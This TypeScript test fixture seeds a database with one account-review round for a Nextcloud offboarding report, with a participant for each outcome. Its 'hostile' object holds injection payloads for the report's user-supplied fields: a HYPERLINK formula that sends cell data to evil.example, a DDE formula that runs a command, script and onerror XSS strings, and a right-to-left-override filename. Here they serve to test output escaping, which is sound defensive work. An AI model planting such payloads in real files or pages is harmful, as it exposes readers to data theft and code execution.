import type { Pool } from '../../src/db/pool.ts'
import { problemOf } from '../../src/errors.ts'
import {
  at,
  insertApproval,
  insertMail,
  insertOperation,
  insertPerson,
  insertRound
} from '../support/report.ts'

/** What somebody calls themselves who wants to hurt whoever reads the report. */
export const hostile = {
  displayName: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  reason: "</td><script>alert(1)</script>\"\r\n@SUM(1+9);=cmd|' /C calc'!A0",
  response: '550 <img src=x onerror=alert(2)> & \u202egnp.exe'
}

/** A round with one participant of each fate. @returns the campaign's id */
export async function tellRound(pool: Pool): Promise<string> {
  const id = await insertRound(pool)
  const person = (name: string, given: Record<string, unknown> = {}) => insertPerson(pool, id, name, given)
  const mail = (name: string | null, given: Record<string, unknown> = {}) => insertMail(pool, id, name, given)
  const reminder = (name: string, number: number) =>
    mail(name, {
      number,
      begun_at: at(2 + 5 * number, '08:01:00.500'),
      ended_at: at(2 + 5 * number, '08:01:01.000')
    })
  const answered = (day: number, answer: string, by: string, reason: string | null = null) => ({
    state: answer,
    answer,
    answered_at: at(day, '10:20:30.456'),
    answered_by: by,
    answer_reason: reason,
    ended_at: at(day, '10:20:30.456')
  })

  await mail(null, { begun_at: at(12), ended_at: at(12, '08:00:01.000') })
  await person('anna', answered(3, 'confirmed', 'self'))
  await mail('anna')
  await person('bert', answered(9, 'vouched', 'contact:chief@acme.example', 'on parental leave'))
  await mail('bert')
  await reminder('bert', 1)
  await person('cleo', {
    ...answered(10, 'excluded', 'key:3kPq9TzX1mLs', hostile.reason),
    display_name: hostile.displayName
  })
  await mail('cleo', { state: 'unknown', response: null })
  await mail('cleo', {
    address: 'cleo@new.example',
    begun_at: at(2, '09:00:00.000'),
    response: hostile.response,
    state: 'refused'
  })

  const offboarded = await insertOperation(pool, 'dora', {
    kind: 'offboard',
    outcomes: [
      {
        user: { id: 'dora', mailAddress: 'private@example.net' },
        driver: { name: 'session', because: 'it passes' }
      },
      { passwordReplaced: true, revoked: { sessions: 2, appPasswords: 1 }, remaining: 0 },
      { enabled: false }
    ]
  })
  await person('dora', {
    ...answered(4, 'left', 'self', 'new job'),
    state: 'acted',
    because: 'left',
    operation_id: offboarded,
    ended_at: at(18)
  })
  await mail('dora')

  const approvalId = await insertApproval(pool)
  const disabled = await insertOperation(pool, 'emil', {
    approval_id: approvalId,
    outcomes: [{ enabled: false }]
  })
  await person('emil', { state: 'acted', because: 'silent', operation_id: disabled, ended_at: at(18) })
  await mail('emil')
  await reminder('emil', 1)
  await reminder('emil', 2)

  const stuck = await insertOperation(pool, 'fred', {
    approval_id: approvalId,
    state: 'needs-attention',
    problem: problemOf('gave-up', 'Nextcloud did not answer for 24 hours.')
  })
  await person('fred', {
    state: 'failed',
    because: 'bounced',
    operation_id: stuck,
    problem: problemOf('gave-up', 'Nextcloud did not answer for 24 hours.'),
    ended_at: at(19)
  })
  await mail('fred', { bounce: 'hard', bounced_at: at(2, '08:03:00.000'), bounce_said: '5.1.1 no such user' })

  await person('gina', {
    state: 'spared',
    because: 'silent',
    problem: problemOf('protected-user', 'The user "gina" is protected.'),
    ended_at: at(18)
  })
  await mail('gina')
  await person('hugo', {
    state: 'out',
    out_because: 'no-mail-address',
    address: null,
    asked_at: null,
    contact: null,
    last_login: null
  })
  await person('Ines', { state: 'out', out_because: 'directory-user', asked_at: null, backend: 'LDAP' })
  return id
}
